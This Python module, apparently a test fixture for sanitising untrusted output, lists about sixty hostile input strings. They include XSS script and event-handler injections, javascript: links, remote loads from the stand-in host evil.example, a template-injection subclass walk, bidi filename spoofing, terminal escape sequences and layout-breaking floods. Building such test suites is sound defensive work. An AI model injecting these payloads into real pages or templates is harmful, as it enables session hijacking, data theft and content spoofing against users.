"""What hostile agents and callers say: each would do something in a page that trusts it."""

_RUN = "pwned(1)"
_SITE = "https://evil.example"

PAYLOADS: tuple[str, ...] = (
    # Scripts
    f"<script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style></pre></code><script>{_RUN}</script>",
    f"<script src={_SITE}/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT/XSS SRC='{_SITE}/x.js'></SCRIPT>",
    f"<script type=module>import '{_SITE}/x.js'</script>",
    f"-->{_RUN}<!--<script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    # Handlers of events
    f"<img src=x onerror={_RUN}>",
    f"<img src='x' onerror='{_RUN}'>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video src=x onerror={_RUN}></video>",
    f"<a onmouseover={_RUN} href=#>x</a>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' onclick='{_RUN}' x='",
    f"x` onload={_RUN} `",
    # Addresses that run something
    f"[click](javascript:{_RUN})",
    f"[click](JaVaScRiPt:{_RUN})",
    f"[click](java\tscript:{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    f"[click](vbscript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"javascript:{_RUN}",
    # What would be loaded from elsewhere
    f"![picture]({_SITE}/track.png)",
    f"<img src={_SITE}/track.png>",
    f"<iframe src={_SITE}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data={_SITE}/x.swf></object>",
    f"<embed src={_SITE}/x>",
    f"<link rel=stylesheet href={_SITE}/x.css>",
    f"<meta http-equiv=refresh content='0;url={_SITE}'>",
    f"<base href={_SITE}/>",
    f"<form action={_SITE}><button autofocus>Send</button></form>",
    f"<audio autoplay src={_SITE}/x.mp3>",
    # Styles
    f"<style>@import '{_SITE}/x.css'; body {{ display: none }}</style>",
    f"<div style='position:fixed;inset:0;background:url({_SITE}/x)'>x</div>",
    "<p style=display:none>hidden</p>",
    # Templates
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "__proto__",
    # What hides or reorders, and what terminals do
    "safe\u202etxt.exe",
    "\u2066left\u2069\u200f\u200e\u061c right",
    "\x1b[2J\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x00null\x08\x7f",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    # What breaks a layout
    "W" * 100_000,
    "#" * 2000 + " heading " + "> " * 2000,
    "|a" * 3000 + "|\n" + "|-" * 3000 + "|\n",
)
assert len(PAYLOADS) >= 60, len(PAYLOADS)
